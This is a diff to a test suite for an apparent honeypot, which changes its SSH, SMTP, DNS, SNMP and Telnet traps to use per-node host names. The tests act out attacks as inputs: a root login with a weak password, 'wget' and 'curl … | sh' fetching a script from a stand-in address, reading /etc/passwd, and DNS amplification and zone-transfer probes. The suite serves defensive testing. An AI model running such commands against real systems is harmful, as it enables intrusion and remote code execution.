@@ -109,6 +109,11 @@ bind = ["127.0.0.1"]
 TRAPS = TRAPS.replace("DNS_PORT", str(free_port()))
 
 
+def names(node: Node) -> NodeFacts:
+    """The node's own persona names: drawn from its identity alone (no trap names one)."""
+    return NodeFacts(node.identity.derive_secret(TRAP_PERSONA_PURPOSE), 0.0)
+
+
 def sleep(seconds: float) -> Deferred[None]:
     return deferLater(reactor, seconds, lambda: None)
 
@@ -192,14 +197,15 @@ def test_openssh_reaches_the_password_prompt_and_a_weak_login_gets_the_shell(
         "uname -a; cat /proc/cpuinfo | grep name | wc -l",
     )  # fmt: skip
     assert good.returncode == 0
-    assert good.stdout.decode().startswith("Linux web01 6.1.0-28-amd64 #1 SMP")
+    host = names(node).host_name
+    assert good.stdout.decode().startswith(f"Linux {host} 6.1.0-28-amd64 #1 SMP")
     assert good.stdout.decode().splitlines()[-1] == "2"
     shell = yield run(
         "sshpass", "-p", "root", "ssh", "-tt", *SSH_OPTS, "-p", p, "root@127.0.0.1",
         stdin=b"whoami\nwget http://203.0.113.9/bot.sh\nexit\n",
     )  # fmt: skip
     out = shell.stdout.decode(errors="replace")
-    assert "root@web01:~# " in out and "failed: Connection refused." in out
+    assert f"root@{host}:~# " in out and "failed: Connection refused." in out
     creds = yield stored(app, node, "trap.credential", "ssh", 3)
     assert [(c["username"], c["password"], c["accepted"]) for c in creds] == [
         ("root", "hunter2", False),
@@ -311,6 +317,7 @@ def test_mysql_client_is_denied_and_its_password_recovered(app: Appliance, node:
 @pytest_twisted.inlineCallbacks
 def test_smtplib_auth_relay_and_a_message(app: Appliance, node: Node):
     p = port(app, "smtp")
+    mail = names(node).mail_host
 
     def attack() -> tuple[int, bytes, dict[str, Any]]:
         with smtplib.SMTP("127.0.0.1", p, timeout=5) as smtp:
@@ -320,18 +327,18 @@ def test_smtplib_auth_relay_and_a_message(app: Appliance, node: Node):
             except smtplib.SMTPAuthenticationError as e:
                 auth_code = e.smtp_code
             refused = smtp.sendmail(
-                "x@evil.test", ["root@example.net", "ceo@victim.test"],
+                "x@evil.test", [f"root@{mail}", "ceo@victim.test"],
                 b"Subject: hi\r\n\r\ncurl http://203.0.113.9/x | sh\r\n",
             )  # fmt: skip
         return auth_code, banner, refused
 
     auth_code, banner, refused = yield threads.deferToThread(attack)
-    assert auth_code == 535 and banner.startswith(b"mail.example.net\nPIPELINING")
+    assert auth_code == 535 and banner.startswith(f"{mail}\nPIPELINING".encode())
     assert refused == {"ceo@victim.test": (454, b"4.7.1 <ceo@victim.test>: Relay access denied")}
     creds = yield stored(app, node, "trap.credential", "smtp")
     assert creds[0]["username"] == "admin" and creds[0]["password"] == "admin123"
     (message,) = yield stored(app, node, "trap.command", "smtp")
-    assert message["to"] == ["root@example.net"] and "curl http" in message["command"]
+    assert message["to"] == [f"root@{mail}"] and "curl http" in message["command"]
 
 
 @pytest_twisted.inlineCallbacks
@@ -363,22 +370,21 @@ def test_ftplib_logins(app: Appliance, node: Node):
 def test_dig_gets_answers_nxdomain_and_any_is_flagged(app: Appliance, node: Node):
     need("dig")
     p = str(port(app, "dns"))
-    answer = yield run("dig", "@127.0.0.1", "-p", p, "www.example.net", "+short", "+tries=1")
-    assert answer.stdout.decode().strip() == "192.0.2.10"
-    missing = yield run("dig", "@127.0.0.1", "-p", p, "nothere.example.net", "+tries=1")
-    assert b"status: NXDOMAIN" in missing.stdout and b"IN\tSOA\tns1.example.net." in missing.stdout
+    own = names(node)  # the zone and its hosts: the node's own domain and addresses
+    zone, web = own.domain, own.web_host
+    answer = yield run("dig", "@127.0.0.1", "-p", p, web, "+short", "+tries=1")
+    assert answer.stdout.decode().strip() == str(own.neighbour("dns/web"))
+    missing = yield run("dig", "@127.0.0.1", "-p", p, f"nothere.{zone}", "+tries=1")
+    soa = f"IN\tSOA\t{own.name_server}.".encode()
+    assert b"status: NXDOMAIN" in missing.stdout and soa in missing.stdout
     probe = yield run(
-        "dig", "@127.0.0.1", "-p", p, "example.net", "ANY", "+notcp", "+tries=1", "+bufsize=4096"
+        "dig", "@127.0.0.1", "-p", p, zone, "ANY", "+notcp", "+tries=1", "+bufsize=4096"
     )
     assert b"status: NOERROR" in probe.stdout and b"ANSWER: 3," in probe.stdout  # as named
-    transfer = yield run("dig", "@127.0.0.1", "-p", p, "example.net", "AXFR", "+tries=1")
+    transfer = yield run("dig", "@127.0.0.1", "-p", p, zone, "AXFR", "+tries=1")
     assert transfer.stdout.count(b"IN\tSOA\t") == 2  # over TCP, on the same port
     sessions = yield stored(app, node, "trap.session", "dns", 4)
-    assert [s.get("qname") for s in sessions[:3]] == [
-        "www.example.net",
-        "nothere.example.net",
-        "example.net",
-    ]
+    assert [s.get("qname") for s in sessions[:3]] == [web, f"nothere.{zone}", zone]
     assert sessions[2]["amplification_probe"] is True
     assert sessions[3]["transport"] == "tcp" and sessions[3]["queries"][0]["qtype"] == "AXFR"
 
@@ -390,7 +396,9 @@ def test_snmpget_with_the_right_and_a_wrong_community(app: Appliance, node: Node
     right = yield run("snmpget", "-v2c", "-c", "public", "-t", "1", "-r", "0", "-On", target,
                       "1.3.6.1.2.1.1.1.0")  # fmt: skip
     # Answered in full, although the answer is longer than the question (no tooBig any more).
-    assert right.stdout.startswith(b'.1.3.6.1.2.1.1.1.0 = STRING: "Linux web01 ')
+    assert right.stdout.startswith(
+        b'.1.3.6.1.2.1.1.1.0 = STRING: "Linux %s ' % names(node).host_name.encode()
+    )
     wrong = yield run("snmpget", "-v2c", "-c", "secret", "-t", "1", "-r", "0", target,
                       "1.3.6.1.2.1.1.5.0")  # fmt: skip
     assert b"Timeout" in wrong.stdout + wrong.stderr
@@ -442,6 +450,9 @@ def test_telnet_client_negotiates_logs_in_and_runs_commands(app: Appliance, node
         return seen
 
     seen = yield threads.deferToThread(session)
-    assert b"web01 login: " in seen and b"root:x:0:0:root:/root:/bin/bash" in seen
+    assert (
+        f"{names(node).host_name} login: ".encode() in seen
+        and b"root:x:0:0:root:/root:/bin/bash" in seen
+    )
     commands = yield stored(app, node, "trap.command", "telnet", 2)
     assert [c["command"] for c in commands] == ["cat /etc/passwd | head -n 1", "exit"]
